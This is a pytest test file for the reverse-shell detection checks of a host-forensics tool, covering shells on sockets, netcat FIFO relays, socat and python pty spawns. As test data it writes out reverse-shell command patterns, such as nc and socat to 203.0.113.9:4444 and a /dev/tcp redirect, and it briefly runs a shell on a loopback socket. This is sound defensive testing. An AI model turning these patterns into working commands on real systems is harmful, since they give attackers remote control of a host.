import os
import socket as system
import subprocess

import pytest

from detect.made_processes import connected, levels, listening, running, worst
from hemostat.collect.processes import snapshot
from hemostat.detect.checks.process_shell import shell_behind_relay, shell_on_socket
from hemostat.model.evidence import Evidence
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import OpenFile, Process, Socket
from hemostat.parse.host.process_joins import join_sockets
from hemostat.parse.host.sockets import parse_inet
from hemostat.parse.place import Place
from hemostat.trees.live import LiveTree

ON = {"standard_streams": ("socket:[7]", "socket:[7]", "socket:[7]")}
LINK = connected(50, "203.0.113.9", 4444, inode=7)
TERMINAL = ("/dev/pts/1", "/dev/pts/1", "/dev/pts/1")


def live_records() -> list[object]:
    """The processes and sockets of this machine, joined."""
    found = snapshot(LiveTree())
    with open("/proc/net/tcp", "rb") as table:
        evidence = Evidence(table.read(), HostPath("/proc/net/tcp"))
    sockets = parse_inet(evidence, Place(evidence.path)).records
    joined = join_sockets(sockets, found.opened, found.processes)
    return [*found.processes, *found.opened, *joined]


@pytest.mark.requirement("A5.1")
@pytest.mark.parametrize(
    "argv", [("bash", "-i"), ("sh",), ("bash", "-c", "exec bash -i"), ("python3", "-c", "x")]
)
def test_a_shell_on_a_connection_is_critical(argv: tuple[str, ...]) -> None:
    process = running(50, f"/usr/bin/{argv[0]}", *argv, **ON)
    assert worst(shell_on_socket, process, LINK) == Level.CRITICAL


def test_a_busybox_shell_counts_and_its_other_applets_do_not() -> None:
    assert worst(shell_on_socket, running(50, "/bin/busybox", "sh", **ON), LINK) == Level.CRITICAL
    assert worst(shell_on_socket, running(50, "/bin/busybox", "httpd", **ON), LINK) is None


def test_a_unix_socket_is_no_connection() -> None:
    assert worst(shell_on_socket, running(50, "/usr/bin/bash", "bash", **ON)) is None


def test_fastcgi_hands_a_listener_to_php_and_that_is_ordinary() -> None:
    streams = ("socket:[7]", "/dev/null", "/dev/null")
    process = running(50, "/usr/bin/php-cgi", standard_streams=streams)
    assert worst(shell_on_socket, process, listening(50, 9000, inode=7)) is None
    process = running(50, "/usr/bin/python3", "python3", "/srv/app.fcgi", **ON)
    assert worst(shell_on_socket, process, listening(50, 9000, inode=7)) is None


@pytest.mark.parametrize("script", ["/usr/bin/check_mk_agent", "/opt/a/cgi.sh"])
def test_a_super_server_may_hand_a_connection_to_a_script(script: str) -> None:
    parent = running(4, "/usr/sbin/xinetd")
    process = running(50, "/usr/bin/bash", "bash", script, ppid=4, **ON)
    assert worst(shell_on_socket, parent, process, LINK) is None


@pytest.mark.parametrize("argv", [("sh", "-i"), ("bash", "/tmp/.a.sh")])
def test_but_not_to_a_bare_shell_or_a_script_in_a_temporary_place(argv: tuple[str, ...]) -> None:
    parent = running(4, "/usr/sbin/inetd")
    process = running(50, "/usr/bin/bash", *argv, ppid=4, **ON)
    assert worst(shell_on_socket, parent, process, LINK) == Level.CRITICAL


def test_a_shell_with_a_connection_of_its_own_at_a_higher_descriptor_is_high() -> None:
    process = running(50, "/usr/bin/bash", "bash", "-c", "exec 5<>/dev/tcp/a/1")
    opened = OpenFile(pid=50, descriptor=5, target="socket:[7]")
    assert worst(shell_on_socket, process, opened, LINK) == Level.HIGH
    script = running(50, "/usr/bin/bash", "bash", "/opt/health.sh")
    assert worst(shell_on_socket, script, opened, LINK) == Level.LOW


def test_a_connection_inherited_from_the_parent_is_not_the_shells() -> None:
    parent = running(40, "/opt/app/server")
    shared = Socket(
        protocol="tcp", remote_address="203.0.113.9", state="established", inode=7, pids=(40, 50)
    )
    process = running(50, "/usr/bin/dash", "sh", "-c", "x", ppid=40)
    opened = OpenFile(pid=50, descriptor=5, target="socket:[7]")
    assert worst(shell_on_socket, parent, process, opened, shared) is None


def test_a_real_shell_on_a_real_connection_is_found() -> None:
    with system.create_server(("127.0.0.1", 0)) as server:
        client = system.create_connection(server.getsockname())
        with subprocess.Popen(["/bin/sh"], stdin=client, stdout=client, stderr=client) as shell:
            records = live_records()
            shell.kill()
        client.close()
    found = [
        record
        for record in records
        if not isinstance(record, Process) or record.pid in (shell.pid, os.getpid())
    ]
    assert Level.CRITICAL in levels(shell_on_socket, *found)


NC = running(60, "/usr/bin/nc.openbsd", "nc", "203.0.113.9", "4444")
NC_LINK = connected(60, "203.0.113.9", 4444)


def relay(*streams: str) -> Process:
    return running(60, "/usr/bin/nc.openbsd", "nc", "203.0.113.9", "4444", standard_streams=streams)


def test_the_fifo_that_cat_reads_leads_back_to_the_relay() -> None:
    cat = running(61, "/usr/bin/cat", "cat", "/tmp/f", standard_streams=("", "pipe:[20]", ""))
    shell = running(50, "/bin/dash", "sh", "-i", standard_streams=("pipe:[20]", "pipe:[21]", ""))
    records = (
        cat,
        shell,
        relay("pipe:[21]", "/tmp/f", ""),
        OpenFile(pid=61, descriptor=3, target="/tmp/f"),
        OpenFile(pid=60, descriptor=1, target="/tmp/f"),
        NC_LINK,
    )
    assert worst(shell_behind_relay, *records) == Level.HIGH


def test_a_relay_that_feeds_a_shell_by_one_pipe_is_found() -> None:
    shell = running(50, "/bin/dash", "sh", standard_streams=("pipe:[20]", "pipe:[21]", ""))
    assert worst(shell_behind_relay, shell, relay("", "pipe:[20]", ""), NC_LINK) == Level.HIGH


def test_a_script_that_pipes_figures_into_a_relay_is_ordinary() -> None:
    shell = running(
        50, "/bin/dash", "sh", "/opt/m.sh", standard_streams=("/dev/null", "pipe:[21]", "")
    )
    assert worst(shell_behind_relay, shell, relay("pipe:[21]", "/dev/null", ""), NC_LINK) is None


def test_a_shell_that_socat_started_on_a_terminal_is_found() -> None:
    socat = running(60, "/usr/bin/socat", "socat", "TCP:203.0.113.9:4444", "EXEC:bash,pty")
    shell = running(50, "/usr/bin/bash", "bash", "-i", ppid=60, standard_streams=TERMINAL)
    assert worst(shell_behind_relay, socat, shell, NC_LINK) == Level.HIGH


def test_an_interpreter_that_calls_out_and_keeps_a_terminal_is_found() -> None:
    parent = running(60, "/usr/bin/python3.11", "python3", "-c", "import pty")
    shell = running(50, "/usr/bin/bash", "bash", ppid=60, standard_streams=TERMINAL)
    assert worst(shell_behind_relay, parent, shell, NC_LINK) == Level.HIGH


def test_a_notebook_server_with_terminals_is_ordinary() -> None:
    parent = running(60, "/usr/bin/python3.11", "python3", "-m", "jupyter")
    shell = running(50, "/usr/bin/bash", "bash", ppid=60, standard_streams=TERMINAL)
    records = (parent, shell, NC_LINK, listening(60, 8888))
    assert worst(shell_behind_relay, *records) is None


@pytest.mark.parametrize("parent", ["/usr/sbin/sshd", "/usr/bin/tmux", "/usr/bin/docker"])
def test_ordinary_parents_of_shells_are_quiet(parent: str) -> None:
    above = running(60, parent)
    shell = running(50, "/usr/bin/bash", "-bash", ppid=60, standard_streams=TERMINAL)
    assert worst(shell_behind_relay, above, shell, NC_LINK) is None
